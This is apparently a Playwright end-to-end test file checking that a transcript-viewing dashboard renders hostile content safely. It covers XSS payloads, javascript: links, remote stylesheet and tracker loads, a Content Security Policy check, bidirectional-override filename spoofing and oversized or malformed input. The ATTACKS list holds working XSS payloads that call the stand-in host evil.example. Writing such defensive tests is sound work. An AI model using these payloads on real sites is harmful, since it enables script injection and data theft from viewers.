"""Transcripts that try to run in whoever looks at them, or to hide what they say, in a real browser."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Page, expect

from agent_core.errors import InvalidRequest
from ops.importing import import_files
from tests.e2e.dashboard_stage import Stage, stage

pytestmark = pytest.mark.asyncio(loop_scope="module")

RUN = "window.pwned=1;fetch('https://evil.example/');alert(1)"
ATTACKS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"[click me](javascript:{RUN})",
    f"[click me](java\tscript:{RUN})",
    f"[click me](&#106;avascript:{RUN})",
    f"[click me](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    "![a picture](https://evil.example/tracker.png)",
    f'```"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```',
    f"```html\n</code></pre><img src=x onerror={RUN}>\n```",
    f"</script><script>{RUN}</script>",
    "${alert(1)} `${alert(1)}` {{constructor.constructor('alert(1)')()}}",
    "<style>@import 'https://evil.example/a.css'</style><link rel=stylesheet href=https://evil.example/b.css>",
    f"<form action=https://evil.example/><button autofocus onfocus={RUN}>x</button></form>",
    f'[x](https://ok.example/"onmouseover="{RUN})',
    f'[ref]\n\n[ref]: javascript:{RUN} "title"',
]
MEGABYTE = 1 << 20
DEEP, DEEPEST = 1020, 1023
"""Lists within each other: fewer than an answer of a node may hold, and the most that the cluster takes."""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shown(module_path: Path) -> AsyncIterator[Stage]:
    async with stage(module_path) as built:
        yield built


@pytest.fixture(autouse=True)
def no_complaints(shown: Stage) -> Iterator[None]:
    with shown.without_complaints():
        yield


async def assert_nothing_ran(page: Page) -> None:
    assert await page.evaluate("window.pwned") is None
    scripts = await page.locator("main script, main iframe, main object, main form:not(.filters)").count()
    assert scripts == 0
    handlers = (
        "[...document.querySelectorAll('main *')].filter(e => e.getAttributeNames().some(n => /^on/.test(n)))"
    )
    assert await page.evaluate(f"{handlers}.length") == 0
    links = "[...document.querySelectorAll('main a[href]')].map(a => a.protocol)"
    assert set(await page.evaluate(links)) <= {"http:", "https:", "mailto:"}


async def test_nothing_in_a_transcript_runs_or_loads(shown: Stage) -> None:
    session = await shown.client.create_session(title=ATTACKS[0], workspace=ATTACKS[1], model=ATTACKS[5][:60])
    for attack in ATTACKS:
        content = [
            {"type": "text", "text": attack},
            {"type": "reasoning", "text": attack},
            {"type": attack, "text": 1, attack: attack},
            {"type": "tool_call", "id": attack, "name": attack, "arguments": {attack: attack, "command": attack}},
        ]
        await shown.client.append(
            session.session_id, "message", {"role": "assistant", "model": attack, "content": content}
        )
        result = {
            "role": "tool_result",
            "toolCallId": attack,
            "content": [{"type": "text", "text": attack}, attack],
        }
        await shown.client.append(session.session_id, "message", result)
        await shown.client.append(session.session_id, "custom", {"customType": attack, "data": attack})
    async with shown.page(f"/sessions/{session.session_id}") as page:
        await expect(page.locator("details.note")).to_have_count(len(ATTACKS))
        await page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        await expect(page.locator(".said-body", has_text="<script>").first).to_be_visible()
        await assert_nothing_ran(page)
        await shown.picture(page, "hostile-session")
        # What is appended while somebody looks takes another way into the page.
        for attack in ATTACKS:
            await shown.client.append(session.session_id, "message", {"role": "user", "content": attack})
        await expect(page.locator(".said-by-user")).to_have_count(len(ATTACKS))
        await assert_nothing_ran(page)
    async with shown.page("/sessions") as page:
        await expect(page.locator("tbody tr", has_text="<script>")).to_have_count(1)
        await assert_nothing_ran(page)


async def test_a_filter_in_an_address_does_not_run(shown: Stage) -> None:
    async with shown.page(
        "/sessions?text=%3C/script%3E%3Cscript%3Ewindow.pwned=1%3C/script%3E%60$%7Balert(1)%7D"
    ) as page:
        await expect(page.get_by_text("No session matches")).to_be_visible()
        await assert_nothing_ran(page)


async def test_the_policy_refuses_what_would_be_smuggled_into_the_page(shown: Stage) -> None:
    async with shown.page("/sessions") as page:
        await expect(page.locator("tbody tr").first).to_be_visible()
        await page.evaluate(
            """() => {
                const script = document.createElement("script");
                script.textContent = "window.pwned = 1";
                document.body.append(script);
                const holder = document.createElement("div");
                holder.innerHTML = '<img src="data:," onerror="window.pwned = 2">';
                document.body.append(holder);
            }"""
        )
        await expect(page.locator("body > div > img")).to_have_count(1)
        assert await page.evaluate("window.pwned") is None
        assert any("Content Security Policy" in complaint for complaint in shown.complaints)
        shown.complaints.clear()


async def test_terminal_codes_and_direction_marks_are_shown_or_left_out_and_reorder_nothing(shown: Stage) -> None:
    session = await shown.client.create_session(title="invoice\u202egpj.exe")
    text = "\x1b[31mred\x1b[0m \x1b]0;title\x07 bell\x07 user\u202e\u2066// admin\u2069 zero\u200bwidth"
    await shown.client.append(session.session_id, "message", {"role": "user", "content": text})
    async with shown.page(f"/sessions/{session.session_id}") as page:
        said = page.locator(".said-body")
        await expect(said).to_contain_text("red  bell␇ user⟨U+202E⟩⟨U+2066⟩// admin⟨U+2069⟩ zero⟨U+200B⟩width")
        await expect(page.get_by_role("heading", level=1)).to_have_text("invoice⟨U+202E⟩gpj.exe")
        assert "\u202e" not in await page.title()


async def test_a_line_of_five_megabytes_is_cut_and_can_be_read_whole_as_plain_text(shown: Stage) -> None:
    session = await shown.client.create_session(title="huge")
    line = "<b>x</b>" * (5 * MEGABYTE // 8)
    await shown.client.append(session.session_id, "message", {"role": "user", "content": line})
    await shown.client.append(
        session.session_id,
        "message",
        {
            "role": "assistant",
            "content": [{"type": "tool_call", "id": "1", "name": "sh", "arguments": {"command": line}}],
        },
    )
    started = time.monotonic()
    async with shown.page(f"/sessions/{session.session_id}") as page:
        more = page.get_by_role("link", name="Show all of entry 1")
        await expect(more).to_be_visible()
        assert time.monotonic() - started < 15
        assert len(await page.locator(".said-body").inner_text()) < 25_000
        raw = shown.url + str(await more.get_attribute("href"))
    async with httpx.AsyncClient() as http:
        answer = await http.get(raw)
    assert line in answer.text
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"


async def test_invalid_utf_8_gets_into_no_transcript_and_the_rest_of_its_file_is_shown(
    shown: Stage, tmp_path: Path
) -> None:
    broken = b'{"role": "user", "content": "before \xff\xfe\xc3( after"}\n'
    (tmp_path / "broken.jsonl").write_bytes(broken + b'{"role": "user", "content": "what is left"}\n')
    summary = await import_files(shown.client, [tmp_path / "broken.jsonl"])
    assert summary.entries_added == 1
    assert "not UTF-8" in summary.problems[0]
    session = await shown.client.create_session(title="bytes")
    with pytest.raises(InvalidRequest):
        await shown.client.append(session.session_id, "message", broken.strip())
    async with shown.page("/sessions?text=what+is+left") as page:
        await page.locator("tbody a").first.click()
        await expect(page.locator(".said-body")).to_have_text("what is left")


def nested(depth: int) -> bytes:
    return b'{"role": "user", "content": ' + b"[" * depth + b"]" * depth + b"}"


async def test_what_is_nested_too_deeply_to_be_drawn_is_a_note_beside_the_rest(shown: Stage) -> None:
    session = await shown.client.create_session(title="deep")
    await shown.client.append(session.session_id, "message", nested(DEEP))
    async with shown.page(f"/sessions/{session.session_id}") as page:
        await expect(page.locator(".item")).to_contain_text("nested too deeply to be shown")


async def test_an_entry_that_cannot_be_taken_apart_is_reported_and_the_node_stays_a_choice(shown: Stage) -> None:
    session = await shown.client.create_session(title="deepest")
    await shown.client.append(session.session_id, "message", nested(DEEPEST))
    async with shown.page(f"/sessions/{session.session_id}") as page:
        await expect(page.locator(".state-error")).to_contain_text("This cannot be shown")
        await page.goto(f"{shown.url}/sessions")
        await expect(page.locator("tbody tr").first).to_be_visible()


async def test_a_session_whose_next_entry_cannot_be_taken_apart_says_that_it_is_live_no_more(shown: Stage) -> None:
    session = await shown.client.create_session(title="deepest, later")
    await shown.client.append(session.session_id, "message", {"role": "user", "content": "before it"})
    async with shown.page(f"/sessions/{session.session_id}") as page:
        await expect(page.locator(".freshness")).to_contain_text("up to date")
        await expect(page.get_by_text("live", exact=True)).to_be_visible()
        await shown.client.append(session.session_id, "message", nested(DEEPEST))
        await expect(page.locator(".state-error")).to_contain_text("This cannot be shown")
        await expect(page.get_by_text("live", exact=True)).to_be_hidden()
        await expect(page.get_by_text("before it")).to_be_visible()
        await expect(page.locator(".freshness")).to_contain_text("as of")
        await shown.picture(page, "hostile-follow-ended")
